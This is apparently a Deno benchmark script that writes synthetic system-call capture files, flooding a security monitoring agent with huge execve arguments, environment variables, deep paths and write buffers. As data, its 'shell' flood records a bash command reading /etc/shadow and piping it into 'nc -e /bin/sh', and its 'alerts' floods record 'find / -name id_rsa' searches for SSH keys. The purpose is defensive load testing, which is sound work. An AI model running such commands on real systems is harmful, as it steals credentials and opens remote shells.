/**
 * Writes captures of somebody who wants to keep the agent busy: programs one after the other with as
 * many bytes of arguments and environment as an event can have, different ones each time.
 *
 *     deno run -A scripts/bench/argument_floods.ts FOLDER [EXECS] [BYTES]
 *
 * A file for each kind; the same each time.
 */
import { encodeUtf8 } from "../../core/base/mod.ts";
import { eventType, flagValue, type ParamValue } from "../../core/event/mod.ts";
import { createCapture, encodeParam, type ScapOutput, ScapWriter } from "../../core/scap/mod.ts";
import { Random } from "../../tests/property/random.ts";
import { cloned, executed } from "./busy_params.ts";
import { type Program, PROGRAMS } from "./busy_programs.ts";
import { ACCOUNTS, MACHINE, processOf, START_NS, type Task } from "./busy_tables.ts";

const CODES = {
  execve: 293,
  openat: 307,
  connect: 23,
  write: 9,
  sendto: 31,
  procexit: 186,
  clone: 223,
} as const;
const SHELL_ID = 3000;
const AT_FDCWD = -100;
const GAP_NS = 1_000_000n;
const FLUSH_BYTES = 1 << 20;

/** What one program of a flood does. */
interface Deed {
  readonly comm?: string;
  readonly args?: readonly string[];
  readonly env?: readonly string[];
  readonly exePath?: string;
  /** Programs with few arguments that it starts and that end. */
  readonly children?: number;
  readonly events?: readonly { name: keyof typeof CODES; values: readonly ParamValue[] }[];
}

type Flood = (random: Random, index: number, bytes: number) => Deed;

const FLOODS: Readonly<Record<string, Flood>> = {
  one: (random, index, bytes) => ({ args: [`${index}${letters(random, bytes)}`] }),
  words: (random, index, bytes) => ({ args: [String(index), ...words(random, bytes, 20)] }),
  tiny: (random, index, bytes) => ({
    args: [String(index), ...words(random, Math.floor(bytes * 2 / 3), 1)],
  }),
  shell: (random, index, bytes) => ({
    comm: "bash",
    args: ["-c", `cat /etc/shadow ${index} | nc -e /bin/sh ${letters(random, bytes)}`],
  }),
  capitals: (random, index, bytes) => ({
    args: [`${index}`, letters(random, 20) + "aB".repeat(bytes / 2)],
  }),
  alerts: (random, index, bytes) => ({
    comm: "find",
    args: ["/", "-name", `id_rsa${index}`, ...words(random, bytes, 20)],
  }),
  forks: (random, index, bytes) => ({
    args: [String(index), ...words(random, Math.floor(bytes / 2), 1)],
    children: 4,
  }),
  "tiny-alerts": (random, index, bytes) => ({
    comm: "find",
    args: ["/", "id_rsa", String(index), ...words(random, Math.floor(bytes * 2 / 3), 1)],
  }),
  "control-alerts": (_random, index, bytes) => ({
    comm: "find",
    args: ["/", "id_rsa", String(index), "\x7f\x01\\".repeat(bytes / 3)],
  }),
  environment: (random, index, bytes) => ({
    args: [String(index)],
    env: [`N=${index}`, ...words(random, bytes, 20).map((word, i) => `V${i}=${word}`)],
  }),
  both: (random, index, bytes) => ({
    args: [`${index}`, ...words(random, bytes / 2, 20)],
    env: [`N=${index}`, ...words(random, bytes / 2, 20).map((word, i) => `V${i}=${word}`)],
  }),
  path: (random, index) => ({
    exePath: `/tmp/${index}${deep(random, 4000)}`,
    args: [String(index)],
    events: Array.from({ length: 10 }, (_, i) => ({
      name: "openat",
      values: [3, AT_FDCWD, `/home/${index}/${i}${deep(random, 4000)}`, FLAGS, 0o644, 2049, index],
    })),
  }),
  buffers: (random, index, bytes) => ({
    args: [String(index)],
    events: Array.from({ length: 4 }, () => {
      const data = encodeUtf8(letters(random, bytes));
      return { name: "write", values: [data.length, data, 1, data.length] };
    }),
  }),
};

const FLAGS = flagValue("file_flags", "O_WRONLY")! | flagValue("file_flags", "O_CREAT")!;

/** Junk is not text: it is put into the bytes of the event, behind what the arguments are. */
const JUNK: Readonly<Record<string, Deed>> = {
  junk: { args: ["x"] },
  "junk-alerts": { comm: "find", args: ["/", "-name", "id_rsa"] },
};

export const FLOOD_NAMES: readonly string[] = [...Object.keys(FLOODS), ...Object.keys(JUNK)];

export async function writeFlood(
  output: ScapOutput,
  { name, execs, bytes }: { name: string; execs: number; bytes: number },
): Promise<void> {
  const random = new Random(1);
  const writer = new ScapWriter(output);
  const shell: Program = PROGRAMS.find(({ comm }) => comm === "bash") ?? PROGRAMS[0]!;
  const start: Task = { id: SHELL_ID, parentId: 1, program: shell, args: [], nextDescriptor: 3 };
  writer.machine(MACHINE);
  writer.accounts(ACCOUNTS);
  writer.processes([processOf({ ...start, id: 1, parentId: 0 }), processOf(start)]);
  let timeNs = START_NS;
  let lastId = SHELL_ID;
  const emit = (
    code: number,
    values: readonly ParamValue[],
    { threadId = SHELL_ID, patch }: {
      readonly threadId?: number;
      readonly patch?: (params: (Uint8Array | undefined)[]) => void;
    } = {},
  ) => {
    const params = eventType(code)!.params.map(({ type }, i) => encodeParam(type, values[i]));
    patch?.(params);
    timeNs += GAP_NS;
    writer.event({ type: code, timeNs, threadId, cpu: 0 }, params);
  };
  for (let index = 0; index < execs; index++) {
    const isJunk = Object.hasOwn(JUNK, name);
    const deed = isJunk ? JUNK[name]! : FLOODS[name]!(random, index, bytes);
    const { comm = "worker", args = [], env = shell.env, exePath = `/usr/bin/${comm}` } = deed;
    const program: Program = { ...shell, comm, exe: comm, exePath, env };
    const values = executed({ ...start, program, args });
    emit(CODES.execve, values, {
      patch: (params) => {
        if (isJunk) params[2] = new Uint8Array([...params[2] ?? [], ...junk(random, bytes)]);
      },
    });
    for (const event of deed.events ?? []) emit(CODES[event.name], event.values);
    for (let children = deed.children ?? 0; children > 0; children--) {
      const threadId = ++lastId;
      const child: Task = { ...start, id: threadId, parentId: SHELL_ID };
      emit(CODES.clone, cloned({ ...start, program, args }, threadId));
      emit(CODES.clone, cloned({ ...child, program, args }, 0), { threadId });
      emit(CODES.execve, executed({ ...child, args: [String(threadId)] }), { threadId });
      emit(CODES.procexit, [0, 0, 0, 0, 0], { threadId });
    }
    if (writer.pendingBytes > FLUSH_BYTES) await writer.flush();
  }
  await writer.close();
}

function letters(random: Random, count: number): string {
  let text = "";
  while (text.length < count) text += random.next().toString(36).slice(2);
  return text.slice(0, count);
}

function words(random: Random, bytes: number, length: number): string[] {
  return Array.from(
    { length: Math.floor(bytes / (length + 1)) },
    () => letters(random, length),
  );
}

function deep(random: Random, bytes: number): string {
  return words(random, bytes, 9).map((word) => `/${word}`).join("");
}

/** Bytes that are no UTF-8, with an end here and there. */
function junk(random: Random, count: number): Uint8Array {
  const bytes = Uint8Array.from(
    { length: count },
    () => random.below(50) === 0 ? 0 : 128 + random.below(128),
  );
  bytes[count - 1] = 0;
  return bytes;
}

if (import.meta.main) {
  const [folder, execs = "1000", bytes = "50000"] = Deno.args;
  if (folder === undefined) throw new Error("usage: argument_floods.ts FOLDER [EXECS] [BYTES]");
  await Deno.mkdir(folder, { recursive: true });
  for (const name of FLOOD_NAMES) {
    await writeFlood(await createCapture(`${folder}/${name}.scap`, {}), {
      name,
      execs: Number(execs),
      bytes: Number(bytes),
    });
  }
}
